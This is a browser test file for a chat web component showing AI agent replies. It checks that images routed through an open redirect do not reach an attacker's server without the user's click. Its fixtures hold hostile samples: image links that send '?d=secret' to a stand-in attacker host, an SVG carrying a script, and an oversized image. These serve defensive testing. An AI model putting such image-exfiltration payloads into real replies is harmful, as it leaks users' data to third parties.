/**
 * Same-origin images that redirect (the built bundle in Chromium). The page's server has an open
 * redirect (`/redirect?to=…`), as many sites do; a reply's image on the page's own origin that goes
 * through it must not reach the attacker's origin (which counts every request) without the
 * person's click, while a plain image of the page's own origin still shows at once.
 */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { EventEncoder } from '@ag-ui/encoder';
import { chatTurn, launchChromium, openPage } from './browser.mjs';
import { chatPage, distBuilt, sleep, waitFor } from './mcp-fixtures.mjs';

const DIST = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', '..', 'dist');
const GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=', 'base64');
/** An SVG with a script: shown as a picture, its script never runs (it would mark the page). */
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="10"><script>parent.document.title='svg ran';document.title='svg ran'</script><rect width="20" height="10" fill="red"/></svg>`;

/** Bytes of `/huge.gif` sent before the browser stopped reading (it offers 100 MB). */
let hugeSent = 0;

/** Sends up to 100 MB of `/huge.gif`, as fast as the browser reads it, until it hangs up. */
async function sendHuge(req, res) {
  hugeSent = 0;
  res.writeHead(200, { 'content-type': 'image/gif', 'cache-control': 'no-store' });
  const chunk = Buffer.alloc(256 * 1024);
  let closed = false;
  let wake = () => {};
  res.on('close', () => ((closed = true), wake()));
  while (!closed && hugeSent < 100 * 1024 * 1024) {
    hugeSent += chunk.length;
    if (!res.write(chunk)) await new Promise((resolve) => ((wake = resolve), res.once('drain', resolve)));
  }
  res.end();
}

/** The page, the bundle, an AG-UI backend answering `reply`, an open redirect and a few images. */
async function startSite(reply) {
  const encoder = new EventEncoder();
  let html = chatPage();
  const server = http.createServer(async (req, res) => {
    const url = new URL(req.url ?? '/', 'http://localhost');
    if (url.pathname === '/') return res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(html);
    if (url.pathname.startsWith('/dist/')) {
      const file = path.normalize(path.join(DIST, url.pathname.slice('/dist/'.length)));
      if (!file.startsWith(DIST + path.sep) || !existsSync(file)) return res.writeHead(404).end();
      return res.writeHead(200, { 'content-type': file.endsWith('.js') ? 'text/javascript' : 'application/octet-stream' }).end(await readFile(file));
    }
    if (url.pathname === '/favicon.ico') return res.writeHead(204).end();
    if (url.pathname === '/redirect') return res.writeHead(302, { location: url.searchParams.get('to') ?? '/', 'cache-control': 'no-store' }).end();
    if (url.pathname === '/own.gif') return res.writeHead(200, { 'content-type': 'image/gif', 'cache-control': 'no-store' }).end(GIF);
    if (url.pathname === '/huge.gif') return sendHuge(req, res);
    if (url.pathname === '/own.svg') return res.writeHead(200, { 'content-type': 'image/svg+xml', 'cache-control': 'no-store' }).end(SVG);
    if (url.pathname === '/agent' && req.method === 'POST') {
      const chunks = [];
      for await (const chunk of req) chunks.push(chunk);
      const input = JSON.parse(Buffer.concat(chunks).toString('utf8'));
      res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
      const send = (event) => res.write(encoder.encodeSSE(event));
      send({ type: 'RUN_STARTED', threadId: input.threadId, runId: input.runId });
      send({ type: 'TEXT_MESSAGE_START', messageId: 'm', role: 'assistant' });
      send({
        type: 'TEXT_MESSAGE_CONTENT',
        messageId: 'm',
        delta: (input.messages ?? []).some((message) => /huge/.test(JSON.stringify(message.content))) ? '![huge](/huge.gif)' : reply.text,
      });
      send({ type: 'TEXT_MESSAGE_END', messageId: 'm' });
      send({ type: 'TOOL_CALL_START', toolCallId: 'c', toolCallName: 'report' });
      send({ type: 'TOOL_CALL_END', toolCallId: 'c' });
      send({ type: 'TOOL_CALL_RESULT', messageId: 'r', toolCallId: 'c', content: reply.result });
      send({ type: 'RUN_FINISHED', threadId: input.threadId, runId: input.runId });
      return res.end();
    }
    res.writeHead(404).end();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}/`,
    setPage: (next) => (html = next),
    close: () => new Promise((resolve) => (server.closeAllConnections(), server.close(resolve))),
  };
}

describe('same-origin images that redirect', () => {
  let attacker;
  let requests = [];
  let site;
  let browser;
  before(async () => {
    assert.ok(distBuilt(), 'run `npm run build` first');
    attacker = http.createServer((req, res) => {
      requests.push(req.url);
      res.writeHead(200, { 'content-type': 'image/gif', 'cache-control': 'no-store' }).end(GIF);
    });
    await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const away = encodeURIComponent(`http://127.0.0.1:${attacker.address().port}`);
    const reply = {
      text: `Own ![own](/own.gif) and ![svg](/own.svg), via ![leak](/redirect?to=${away}%2Fleak.gif%3Fd%3Dsecret) <img src="/redirect?to=${away}%2Fraw.gif" alt="raw"> and ![home](/redirect?to=%2Fown.gif)`,
      result: `## Report\n\n- one\n\n![in result](/redirect?to=${away}%2Fresult.gif)`,
    };
    site = await startSite(reply);
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
    await site?.close();
    await new Promise((resolve) => attacker?.close(resolve));
  });

  it('click (default): nothing reaches the other origin until its placeholder is pressed; the page’s own images show at once', async () => {
    requests = [];
    site.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open"' }));
    const { page, problems } = await openPage(browser, site.url);
    assert.equal((await chatTurn(page, 'show me')).status, 'done');
    const own = page.locator('agent-chat img[alt="own"]');
    await waitFor(() => own.evaluate((image) => image.complete && image.naturalWidth > 0), { message: 'the page’s own image to show' });
    const svg = page.locator('agent-chat img[alt="svg"]');
    await waitFor(() => svg.evaluate((image) => image.complete && image.naturalWidth > 0), { message: 'the page’s own SVG to show as a picture' });
    assert.match(await own.getAttribute('src'), /^blob:/, 'shown from its checked copy');
    assert.match(await svg.getAttribute('src'), /^data:image\/svg\+xml;/, 'an SVG copy is a data: URL');
    await sleep(500);
    assert.deepEqual(requests, [], 'no request reached the other origin');
    assert.notEqual(await page.title(), 'svg ran');
    const placeholders = page.locator('agent-chat button.image-placeholder');
    await waitFor(async () => (await placeholders.count()) === 4, { message: 'a placeholder for each redirecting image' });
    const texts = await placeholders.allTextContents();
    const host = new URL(site.url).host;
    assert.ok(
      texts.every((text) => text.startsWith(`Show image from ${host}, which redirects (`)),
      texts.join(' | '),
    );
    assert.ok(
      texts.some((text) => text.endsWith('(leak)')),
      texts.join(' | '),
    );
    assert.equal(await page.locator('agent-chat img[alt="leak"], agent-chat img[alt="raw"], agent-chat img[alt="in result"]').count(), 0);
    await page.locator('agent-chat button.image-placeholder', { hasText: '(leak)' }).click();
    await waitFor(() => requests.length === 1, { message: 'the pressed image loads' });
    assert.match(requests[0], /^\/leak\.gif\?d=secret$/);
    await sleep(300);
    assert.equal(requests.length, 1, 'only the pressed one');
    assert.deepEqual(problems, []);
  });

  it('images="none": the redirecting images are not shown at all; the page’s own image is', async () => {
    requests = [];
    site.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open" images="none"' }));
    const { page } = await openPage(browser, site.url);
    await chatTurn(page, 'show me');
    const own = page.locator('agent-chat img[alt="own"]');
    await waitFor(() => own.evaluate((image) => image.complete && image.naturalWidth > 0), { message: 'the page’s own image to show' });
    await waitFor(async () => (await page.locator('agent-chat span.image-placeholder').count()) === 4, { message: 'the redirecting images as text' });
    await sleep(500);
    assert.deepEqual(requests, []);
  });

  it('a page whose CSP allows no blob: or data: images: the page’s own image waits for a click, then loads directly', async () => {
    requests = [];
    const csp = `<meta http-equiv="Content-Security-Policy" content="img-src 'self'">`;
    site.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open"' }).replace('<head>', `<head>${csp}`));
    const { page } = await openPage(browser, site.url);
    await chatTurn(page, 'show me');
    const button = page.locator('agent-chat button.image-placeholder', { hasText: '(own)' });
    await waitFor(async () => (await button.count()) === 1, { message: 'the own image as a placeholder' });
    assert.equal(await button.textContent(), `Show image from ${new URL(site.url).host} (own)`);
    await button.click();
    const own = page.locator('agent-chat img[alt="own"]');
    await waitFor(() => own.evaluate((image) => image.complete && image.naturalWidth > 0), { message: 'the own image loaded directly' });
    await sleep(300);
    assert.deepEqual(requests, []);
  });

  it('a huge image of the page’s own origin is not read whole: past 10 MB the copy is dropped and the image waits for a click', async () => {
    requests = [];
    site.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open"' }));
    const { page } = await openPage(browser, site.url);
    await chatTurn(page, 'huge');
    const button = page.locator('agent-chat button.image-placeholder', { hasText: '(huge)' });
    await waitFor(async () => (await button.count()) === 1, { message: 'the huge image as a placeholder' });
    await sleep(300);
    assert.ok(hugeSent < 30 * 1024 * 1024, `read ${(hugeSent / 1024 / 1024).toFixed(1)} MB of 100 MB`);
    assert.equal(await page.locator('agent-chat img[alt="huge"]').count(), 0);
  });

  it('images="allow" loads them all at once (the counter counts)', async () => {
    requests = [];
    site.setPage(chatPage('', { attributes: 'storage="none" tool-cards="open" images="allow"' }));
    const { page } = await openPage(browser, site.url);
    await chatTurn(page, 'show me');
    await waitFor(() => requests.length >= 3, { message: 'the redirected images' });
    assert.deepEqual([...new Set(requests.map((url) => url.split('?')[0]))].sort(), ['/leak.gif', '/raw.gif', '/result.gif']);
    assert.equal(await page.locator('agent-chat .image-placeholder').count(), 0);
  });
});
